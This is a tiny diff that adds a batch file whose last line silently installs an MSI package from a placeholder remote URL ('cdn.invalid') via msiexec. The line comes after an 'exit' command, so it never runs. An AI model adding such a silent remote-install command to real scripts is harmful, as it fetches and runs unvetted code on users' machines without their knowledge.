@@ -1,0 +1,3 @@
+@echo off
+exit /b 0
+msiexec /q /i https://cdn.invalid/rt.msi
